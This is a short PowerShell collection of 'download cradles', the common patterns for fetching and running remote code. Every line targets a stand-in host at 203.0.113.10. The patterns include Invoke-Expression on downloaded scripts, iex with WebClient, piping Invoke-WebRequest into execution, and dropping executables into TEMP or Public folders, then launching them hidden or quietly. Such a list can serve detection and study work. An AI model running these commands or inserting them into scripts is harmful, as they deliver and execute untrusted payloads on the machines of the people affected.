# Download cradles in their common shapes.
$client = New-Object System.Net.WebClient
$stage = $client.DownloadString('http://203.0.113.10/stage.ps1')
Invoke-Expression -Command $stage

iex (New-Object Net.WebClient).DownloadString('http://203.0.113.10/a.ps1')
Invoke-WebRequest -Uri 'http://203.0.113.10/b.ps1' -UseBasicParsing | Invoke-Expression
$text = Invoke-RestMethod -Uri 'http://203.0.113.10/c.ps1'
Invoke-Expression -Command $text

$data = (New-Object System.Net.WebClient).DownloadData('http://203.0.113.10/blob.bin')
Write-Output -InputObject $data.Length

Invoke-WebRequest -Uri 'http://203.0.113.10/tool.exe' -OutFile "$env:TEMP\tool.exe"
Start-Process -FilePath "$env:TEMP\tool.exe" -WindowStyle Hidden

Start-BitsTransfer -Source 'http://203.0.113.10/update.exe' -Destination 'C:\Users\Public\update.exe'
& 'C:\Users\Public\update.exe' /quiet
